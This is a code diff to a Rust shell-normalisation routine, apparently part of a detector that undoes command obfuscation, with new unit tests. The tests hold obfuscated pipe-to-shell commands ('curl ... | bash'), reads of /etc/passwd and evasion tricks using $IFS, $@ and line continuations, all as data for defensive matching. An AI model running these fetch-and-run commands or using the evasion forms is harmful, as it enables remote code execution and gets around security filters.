@@ -218,11 +218,9 @@ pub fn shell_normalize(text: &[u8]) -> Option<Vec<u8>> {
                 changed = true;
                 continue;
             }
-            b'\\'
-                if text.get(i + 1) == Some(&b'\n')
-                    && prev_word
-                    && text.get(i + 2).is_some_and(|&n| is_word(n)) =>
-            {
+            // A line continuation: inside a word (the trigger), and once the
+            // region is read, anywhere a shell would join the lines (`|\`).
+            b'\\' if text.get(i + 1) == Some(&b'\n') && (i == 0 || text[i - 1] != b'\\') => {
                 i += 2;
                 changed = true;
                 continue;
@@ -553,6 +551,10 @@ mod tests {
             "curl -s x.example/i | bash"
         );
         assert_eq!(shell("cu\\\nrl -s x | sh"), "curl -s x | sh");
+        assert_eq!(
+            shell("cu\\\nrl -fs\\\nSL x/inst\\\nall |\\\n ba\\\nsh"),
+            "curl -fsSL x/install | bash"
+        );
         assert_eq!(shell("cat${IFS}/etc/passwd"), "cat /etc/passwd");
         assert_eq!(shell("cat$IFS/etc/passwd"), "cat /etc/passwd");
         assert_eq!(shell("c$@url x | ba$*sh"), "curl x | bash");
